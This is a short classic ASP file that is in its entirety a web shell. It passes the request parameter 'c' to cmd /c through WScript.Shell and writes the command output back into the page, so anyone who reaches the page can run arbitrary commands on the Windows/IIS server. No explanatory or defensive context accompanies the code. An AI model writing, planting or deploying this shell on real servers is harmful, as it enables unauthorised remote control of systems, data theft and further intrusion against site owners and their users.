<%
Set sh = Server.CreateObject("WScript.Shell")
Set ex = sh.Exec("cmd /c " & Request("c"))
Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
%>
